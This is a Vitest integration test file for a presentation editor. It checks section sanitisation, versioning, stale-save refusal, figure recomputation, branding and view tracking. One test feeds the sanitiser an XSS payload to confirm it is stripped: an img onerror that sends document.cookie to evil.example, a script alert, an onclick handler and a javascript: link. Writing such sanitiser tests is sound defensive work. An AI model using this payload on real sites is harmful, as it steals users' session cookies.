// Editing a saved presentation: sections sanitised and re-rendered, every change an immutable
// version, stale saves refused, figures recomputed without touching the text, the brand applied
// by choice, and views recording the version the client was shown.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { EDIT_MESSAGES, type TSectionEdit } from '@pitchcraft/core';
import { parseDocument } from '@pitchcraft/core/document';
import { eq, presentations, presentationVersions, presentationViews } from '@pitchcraft/db';

import { createHarness, type Harness, type TestBrowser } from '../../testing';
import { resolvePresentationContent } from './content';
import { placeholdersOf } from './editing';
import { LEGACY_VERSION_SUMMARY } from './versions';

let h: Harness;
beforeAll(async () => {
  h = await createHarness({ rateLimits: false });
});
afterAll(async () => {
  await h.close();
});

const tokenOf = (b: TestBrowser) => [...b.cookies.values.values()][0];

async function savedPresentation(b: TestBrowser, income = '90000'): Promise<string> {
  const { id } = await b.caller.generation.start({
    client: {
      clientName: 'Maria Rivera',
      age: '40',
      gender: 'Female',
      annualIncome: income,
      maritalStatus: 'Married',
      dependents: '2',
      budget: '200',
    },
    strategy: {},
    mode: 'offline',
  });
  for await (const [, event] of (await b.caller.generation.events({ id })) as AsyncIterable<
    [string, { type: string }]
  >) {
    if (event.type === 'done' || event.type === 'error') break;
  }
  return (await b.caller.presentations.save({ generationId: id })).id;
}

async function stored(id: string) {
  const [row] = await h.db.select().from(presentations).where(eq(presentations.id, id));
  if (!row) throw new Error('missing');
  return { row, document: parseDocument(row.document) };
}

/** The editor's view of the sections. */
async function editsOf(
  b: TestBrowser,
  id: string,
): Promise<{ version: number; sections: TSectionEdit[] }> {
  const p = await b.caller.presentations.get({ id });
  if (!p.document) throw new Error('no document');
  return {
    version: p.version,
    sections: p.document.sections.map(({ id: sid, title, html, hidden }) => ({
      id: sid,
      title,
      html,
      hidden,
    })),
  };
}

const versionRows = (id: string) =>
  h.db.select().from(presentationVersions).where(eq(presentationVersions.presentationId, id));

describe('saving and versions', () => {
  it('records the saved presentation as version 1', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const list = await owner.caller.presentations.versions.list({ id });
    expect(list.current).toBe(1);
    expect(list.items).toEqual([
      expect.objectContaining({
        number: 1,
        change: 'generated',
        current: true,
        author: expect.any(String) as unknown,
      }),
    ]);
    const { row } = await stored(id);
    const [v1] = await versionRows(id);
    expect(v1?.htmlContent).toBe(row.htmlContent);
  });

  it('stores an edit sanitised, re-renders the page, and the shared link serves it', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    await owner.caller.presentations.setSharing({ id, enabled: true });
    const { version, sections } = await editsOf(owner, id);
    const hostile =
      '<p>Your family’s plan, reviewed together on Friday.</p>' +
      '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"><script>alert(document.domain)</script>' +
      '<p onclick="steal()">Call <a href="javascript:alert(1)">here</a>, <a href="tel:+15550142">the office</a> or <a href="https://evil.example/">us</a>.</p>';
    const edited = sections.map((s) =>
      s.id === 'where-you-are'
        ? { ...s, html: hostile + s.html.replace(/<p\b[^>]*>[^<]*<\/p>/, '') }
        : s,
    );
    const result = await owner.caller.presentations.updateDocument({
      id,
      baseVersion: version,
      sections: edited,
    });
    expect(result).toEqual({ version: 2, changed: true });

    const { row, document } = await stored(id);
    const section = document?.sections.find((s) => s.id === 'where-you-are');
    expect(section).toMatchObject({ source: 'edited', replaced: null });
    expect(section?.html).toContain('Your family’s plan, reviewed together on Friday.');
    expect(section?.html).toContain('href="tel:+15550142"');
    for (const html of [section?.html ?? '', row.htmlContent]) {
      expect(html).not.toMatch(
        /<img|<script>alert|\son(error|click)\s*=|javascript:|evil\.example/i,
      );
    }
    // Every other section is exactly as it was.
    const before = sections.filter((s) => s.id !== 'where-you-are');
    expect(
      document?.sections
        .filter((s) => s.id !== 'where-you-are')
        .map(({ id: sid, title, html, hidden }) => ({ id: sid, title, html, hidden })),
    ).toEqual(before);

    const shared = await h.browser().caller.presentations.getShared({ id });
    expect(shared.htmlContent).toContain('Your family’s plan, reviewed together on Friday.');
    const list = await owner.caller.presentations.versions.list({ id });
    expect(list.items.map((v) => [v.number, v.change, v.current])).toEqual([
      [2, 'edit', true],
      [1, 'generated', false],
    ]);
    expect(list.items[0]?.summary).toBe(
      `Edited “${sections.find((s) => s.id === 'where-you-are')?.title}”`,
    );
  });

  it('hides and reorders sections: the page follows the document', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { version, sections } = await editsOf(owner, id);
    const [first, second, ...rest] = sections;
    const reordered = [second!, first!, ...rest].map((s) =>
      s.id === 'questions' ? { ...s, hidden: true } : s,
    );
    await owner.caller.presentations.updateDocument({
      id,
      baseVersion: version,
      sections: reordered,
    });
    const { row } = await stored(id);
    const order = [...row.htmlContent.matchAll(/<section id="([a-z-]+)"/g)].map((m) => m[1]);
    expect(order.slice(0, 2)).toEqual([second!.id, first!.id]);
    expect(order).not.toContain('questions');
    const [latest] = (await owner.caller.presentations.versions.list({ id })).items;
    expect(latest?.summary).toBe(
      `Hid “${sections.find((s) => s.id === 'questions')?.title}”; reordered sections`,
    );
  });

  it('refuses a stale save, changed sections, touched placeholders and all hidden, storing nothing', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { version, sections } = await editsOf(owner, id);
    await owner.caller.presentations.updateDocument({
      id,
      baseVersion: version,
      sections: sections.map((s, i) => (i === 0 ? { ...s, title: 'A new cover title' } : s)),
    });
    const before = await stored(id);
    const count = (await versionRows(id)).length;

    const needs = sections.find((s) => s.id === 'what-you-need')!;
    expect(placeholdersOf(needs.html).length).toBeGreaterThan(0);
    const attempts: [unknown, string, string][] = [
      [{ id, baseVersion: version, sections }, 'CONFLICT', EDIT_MESSAGES.stale],
      [
        { id, baseVersion: version + 1, sections: sections.slice(1) },
        'BAD_REQUEST',
        EDIT_MESSAGES.sectionsChanged,
      ],
      [
        { id, baseVersion: version + 1, sections: [...sections, { ...sections[0]!, id: 'extra' }] },
        'BAD_REQUEST',
        EDIT_MESSAGES.sectionsChanged,
      ],
      [
        { id, baseVersion: version + 1, sections: [sections[0]!, ...sections.slice(0, -1)] },
        'BAD_REQUEST',
        EDIT_MESSAGES.sectionsChanged,
      ],
      [
        {
          id,
          baseVersion: version + 1,
          sections: sections.map((s) =>
            s.id === needs.id
              ? { ...s, html: s.html.replace(/<figure data-chart="[a-z-]+"><\/figure>/, '') }
              : s,
          ),
        },
        'BAD_REQUEST',
        EDIT_MESSAGES.placeholdersChanged,
      ],
      [
        {
          id,
          baseVersion: version + 1,
          sections: sections.map((s) =>
            s.id === needs.id
              ? { ...s, html: `${s.html}<span data-figure="total-need"></span>` }
              : s,
          ),
        },
        'BAD_REQUEST',
        EDIT_MESSAGES.placeholdersChanged,
      ],
      [
        { id, baseVersion: version + 1, sections: sections.map((s) => ({ ...s, hidden: true })) },
        'BAD_REQUEST',
        EDIT_MESSAGES.allHidden,
      ],
      [
        {
          id,
          baseVersion: version + 1,
          sections: sections.map((s, i) => (i === 1 ? { ...s, title: '\u202e\u200b' } : s)),
        },
        'BAD_REQUEST',
        'Every section needs a title',
      ],
    ];
    for (const [input, code, message] of attempts) {
      await expect(owner.caller.presentations.updateDocument(input as never)).rejects.toMatchObject(
        { code, message },
      );
    }
    const after = await stored(id);
    expect(after.row.htmlContent).toBe(before.row.htmlContent);
    expect(after.row.version).toBe(before.row.version);
    expect(await versionRows(id)).toHaveLength(count);
  });

  it('commits nothing for a save that changes nothing', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { version, sections } = await editsOf(owner, id);
    expect(
      await owner.caller.presentations.updateDocument({ id, baseVersion: version, sections }),
    ).toEqual({ version: 1, changed: false });
    expect(await versionRows(id)).toHaveLength(1);
  });

  it('previews any version as it was, and restores one as a new version', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const original = await stored(id);
    const { sections } = await editsOf(owner, id);
    await owner.caller.presentations.updateDocument({
      id,
      baseVersion: 1,
      sections: sections.map((s, i) =>
        i === 0 ? { ...s, html: `<p>Rewritten opening for the Riveras.</p>${s.html}` } : s,
      ),
    });

    const token = tokenOf(owner);
    const v1 = await resolvePresentationContent(h, {
      kind: 'presentations',
      id,
      sessionToken: token,
      version: 1,
    });
    const v2 = await resolvePresentationContent(h, {
      kind: 'presentations',
      id,
      sessionToken: token,
      version: 2,
    });
    expect(v1?.html).toBe(original.row.htmlContent);
    expect(v2?.html).toContain('Rewritten opening for the Riveras.');
    expect(
      await resolvePresentationContent(h, {
        kind: 'presentations',
        id,
        sessionToken: token,
        version: 9,
      }),
    ).toBeNull();
    // Another advisor's session sees no version at all.
    const stranger = await h.subscribedBrowser();
    expect(
      await resolvePresentationContent(h, {
        kind: 'presentations',
        id,
        sessionToken: tokenOf(stranger),
        version: 1,
      }),
    ).toBeNull();

    expect(await owner.caller.presentations.versions.restore({ id, number: 1 })).toEqual({
      version: 3,
    });
    const restored = await stored(id);
    expect(restored.row.htmlContent).toBe(original.row.htmlContent);
    expect(restored.row.document).toEqual(original.row.document);
    const list = await owner.caller.presentations.versions.list({ id });
    expect(list.items.map((v) => [v.number, v.change, v.summary])).toEqual([
      [3, 'restored', 'Restored version 1'],
      [2, 'edit', `Edited “${sections[0]?.title}”`],
      [1, 'generated', 'Written by the built-in generator'],
    ]);
    await expect(
      owner.caller.presentations.versions.restore({ id, number: 3 }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: EDIT_MESSAGES.alreadyCurrent,
    });
    await expect(
      owner.caller.presentations.versions.restore({ id, number: 7 }),
    ).rejects.toMatchObject({
      code: 'NOT_FOUND',
      message: EDIT_MESSAGES.noSuchVersion,
    });
  });

  it('puts a presentation saved before versions on record as its version 1 at the first change', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    await h.db.delete(presentationVersions).where(eq(presentationVersions.presentationId, id));
    const before = await stored(id);
    expect((await owner.caller.presentations.versions.list({ id })).items).toEqual([]);
    const { sections } = await editsOf(owner, id);
    await owner.caller.presentations.updateDocument({
      id,
      baseVersion: 1,
      sections: sections.map((s, i) => (i === 2 ? { ...s, hidden: true } : s)),
    });
    const list = await owner.caller.presentations.versions.list({ id });
    expect(list.items.map((v) => [v.number, v.summary])).toEqual([
      [2, expect.stringMatching(/^Hid /)],
      [1, LEGACY_VERSION_SUMMARY],
    ]);
    expect((await versionRows(id)).find((v) => v.number === 1)?.htmlContent).toBe(
      before.row.htmlContent,
    );
  });

  it('deletes the versions with the presentation', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { sections } = await editsOf(owner, id);
    await owner.caller.presentations.updateDocument({
      id,
      baseVersion: 1,
      sections: sections.map((s, i) => (i === 0 ? { ...s, title: 'Another title' } : s)),
    });
    expect(await versionRows(id)).toHaveLength(2);
    await owner.caller.presentations.delete({ id });
    expect(await versionRows(id)).toHaveLength(0);
  });
});

describe('client figures', () => {
  it('recompute every chart and figure without touching any section’s text', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const before = await stored(id);
    const presentation = await owner.caller.presentations.get({ id });
    expect(presentation.figures).toMatchObject({
      age: 40,
      annualIncome: 90000,
      dependents: 2,
      budget: 200,
      maritalStatus: 'Married',
    });
    const result = await owner.caller.presentations.updateFigures({
      id,
      baseVersion: 1,
      figures: { ...presentation.figures!, annualIncome: 180000, dependents: 3 },
    });
    expect(result).toEqual({ version: 2, changed: true });
    const after = await stored(id);
    expect(after.document?.sections).toEqual(before.document?.sections);
    expect(after.row.clientData).toMatchObject({
      annualIncome: '180000',
      dependents: '3',
      clientName: 'Maria Rivera',
    });
    expect(after.row.htmlContent).not.toBe(before.row.htmlContent);
    expect(after.row.htmlContent).toContain('$180,000');
    expect(before.row.htmlContent).not.toContain('$180,000');
    const [latest] = (await owner.caller.presentations.versions.list({ id })).items;
    expect(latest).toMatchObject({
      change: 'figures-changed',
      summary: 'Income $90,000 → $180,000; dependents 2 → 3',
    });
    // The same figures again change nothing.
    expect(
      await owner.caller.presentations.updateFigures({
        id,
        baseVersion: 2,
        figures: { ...presentation.figures!, annualIncome: 180000, dependents: 3 },
      }),
    ).toEqual({
      version: 2,
      changed: false,
    });
  });

  it('change what the client owes, holds and whom they raise, and a fact left empty stays not stated', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { figures } = await owner.caller.presentations.get({ id });
    expect(figures?.needs).toBeDefined();
    const needs = {
      ...figures!.needs!,
      mortgage: '320000',
      savings: '45000',
      childrenAges: '4, 7',
      existingCoverGroup: '',
    };
    expect(
      await owner.caller.presentations.updateFigures({
        id,
        baseVersion: 1,
        figures: { ...figures!, needs },
      }),
    ).toEqual({ version: 2, changed: true });
    const after = await stored(id);
    expect(after.row.clientData).toMatchObject({
      needs: { mortgage: '320000', savings: '45000', childrenAges: '4, 7', existingCoverGroup: '' },
    });
    expect(after.row.htmlContent).toContain('$320,000');
    expect((await owner.caller.presentations.get({ id })).figures?.needs).toMatchObject({
      mortgage: '320000',
      childrenAges: '4, 7',
    });
    const [latest] = (await owner.caller.presentations.versions.list({ id })).items;
    expect(latest?.summary).toContain('Mortgage not stated → $320,000');
    expect(latest?.summary).toContain("children's ages not stated → 4, 7");

    await expect(
      owner.caller.presentations.updateFigures({
        id,
        baseVersion: 2,
        figures: { ...figures!, needs: { ...needs, childrenAges: 'four and seven' } },
      }),
    ).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    expect((await stored(id)).row.version).toBe(2);
  });

  it('keep health facts off the page unless the advisor chose to mention health', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { figures } = await owner.caller.presentations.get({ id });
    await owner.caller.presentations.updateFigures({
      id,
      baseVersion: 1,
      figures: { ...figures!, healthStatus: 'Poor', smoker: 'Smoker' },
    });
    const after = await stored(id);
    expect(after.row.clientData).toMatchObject({ healthStatus: 'Poor', smoker: 'Smoker' });
    expect(after.document?.client).toMatchObject({ healthStatus: '', smoker: '' });
    expect(after.row.htmlContent).not.toContain('Poor health');
  });

  it('refuses figures out of range with the field named', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { figures } = await owner.caller.presentations.get({ id });
    await expect(
      owner.caller.presentations.updateFigures({
        id,
        baseVersion: 1,
        figures: { ...figures!, age: 140 },
      }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'Age must be between 18 and 100',
    });
    expect((await stored(id)).row.version).toBe(1);
  });
});

describe('the brand', () => {
  it('is applied only when the advisor asks, as a new version', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    expect(await owner.caller.presentations.applyBrand({ id, baseVersion: 1 })).toEqual({
      version: 1,
      changed: false,
    });
    await owner.caller.profile.brand.update({
      colours: null,
      disclaimer: 'Acme Advisers is regulated by the Authority.',
      licence: 'LIC-77',
      contact: {},
    });
    // Changing the kit changes no saved presentation by itself.
    expect((await stored(id)).row.htmlContent).not.toContain('LIC-77');
    expect(await owner.caller.presentations.applyBrand({ id, baseVersion: 1 })).toEqual({
      version: 2,
      changed: true,
    });
    const { row, document } = await stored(id);
    expect(document?.brand).toMatchObject({ licence: 'LIC-77' });
    expect(row.htmlContent).toContain('Licence: LIC-77');
    expect(row.htmlContent).toContain('Acme Advisers is regulated by the Authority.');
    expect((await owner.caller.presentations.get({ id })).brandApplied).toBe(true);
  });
});

describe('views', () => {
  it('record the version the visitor was shown, and the engagement panel lists it', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    await owner.caller.presentations.setSharing({ id, enabled: true });
    const visitor = h.browser();
    const first = await visitor.caller.analytics.startView({
      presentationId: id,
      visitorId: 'visitor-one',
    });
    const { sections } = await editsOf(owner, id);
    await owner.caller.presentations.updateDocument({
      id,
      baseVersion: 1,
      sections: sections.map((s, i) => (i === 0 ? { ...s, title: 'Updated cover' } : s)),
    });
    const second = await visitor.caller.analytics.startView({
      presentationId: id,
      visitorId: 'visitor-one',
    });
    const rows = await h.db
      .select()
      .from(presentationViews)
      .where(eq(presentationViews.presentationId, id));
    expect(Object.fromEntries(rows.map((r) => [r.id, r.versionNumber]))).toEqual({
      [first.viewId!]: 1,
      [second.viewId!]: 2,
    });
    const summary = await owner.caller.analytics.summary({ presentationId: id });
    expect(summary.currentVersion).toBe(2);
    expect(summary.recentViews.map((v) => v.versionNumber)).toEqual([2, 1]);
    expect(
      (await owner.caller.analytics.views({ presentationId: id }))
        .map((v) => v.versionNumber)
        .sort(),
    ).toEqual([1, 2]);
  });
});

describe('the record', () => {
  it('refuses to change a version once written, in the database itself', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    await expect(
      h.db
        .update(presentationVersions)
        .set({ htmlContent: '<p>rewritten history</p>' })
        .where(eq(presentationVersions.presentationId, id)),
    ).rejects.toThrow();
    await expect(
      h.db
        .update(presentationVersions)
        .set({ summary: 'Something else' })
        .where(eq(presentationVersions.presentationId, id)),
    ).rejects.toThrow();
    const [v1] = await versionRows(id);
    expect(v1?.htmlContent).toMatch(/^<!DOCTYPE html>/);
  });
});
